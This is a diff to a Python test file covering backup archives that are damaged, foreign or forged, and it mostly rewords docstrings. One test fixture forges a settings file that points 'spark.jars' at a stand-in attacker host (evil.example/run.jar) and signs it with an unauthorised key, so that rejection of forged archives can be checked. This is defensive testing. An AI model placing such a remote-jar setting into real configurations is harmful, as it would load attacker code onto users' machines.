@@ -1,4 +1,4 @@
-"""Archives of homes: what they hold, and those that are damaged, of others, or made to do harm."""
+"""Archives of homes: their content, and archives that are damaged, foreign, or hostile."""
 
 from __future__ import annotations
 
@@ -31,7 +31,7 @@ from medusa.tools.home.founding import make_peer
 
 
 def quiet(_: int) -> None:
-    """No progress is shown."""
+    """Show no progress."""
 
 
 @pytest.fixture
@@ -82,7 +82,7 @@ KEY = Ed25519PrivateKey.generate()
 
 
 def body(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
-    """An archive that `backup` would never write."""
+    """Return an archive that `backup` would never write."""
     with tempfile.NamedTemporaryFile() as written:
         with (
             pa.CompressedOutputStream(written.name, "zstd") as stream,
@@ -95,7 +95,7 @@ def body(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
 
 
 def signed(data: bytes, files: dict[str, bytes], key: Ed25519PrivateKey = KEY) -> bytes:
-    """It, with a manifest of these files."""
+    """Return the archive with a manifest of these files."""
     listed = {name: (len(held), sha256(held).hexdigest()) for name, held in files.items()}
     about = ("mit.edu", "00" * 20, 0.0, "/home", None, ())
     manifest = Manifest(VERSION, *about, listed, sha256(data).hexdigest())
@@ -172,15 +172,15 @@ def test_more_than_the_disk_has_is_not_unpacked(
 
 
 def changed_settings(data: bytes, _key: Ed25519PrivateKey) -> bytes:
-    """The archive with other settings, as who holds the file alone can make it: with the checksums
-    of its content, and a signature by a key of their own."""
+    """Return the archive with other settings, as an attacker who has only the file can make it:
+    with the checksums of its content, and a signature by a key of their own."""
     settings = b'[spark]\n"spark.jars" = "http://evil.example/run.jar"\n'
     forged = body((tarfile.TarInfo("medusa.toml"), settings))
     return signed(forged, {"medusa.toml": settings}, Ed25519PrivateKey.generate())
 
 
 def old_manifest(data: bytes, _key: Ed25519PrivateKey) -> bytes:
-    """Other content under the peer's own signature."""
+    """Return other content under the peer's own signature."""
     forged = body((tarfile.TarInfo("medusa.toml"), b"changed"))
     start = data.rindex(sealed_mark(data))
     return forged + data[start:]
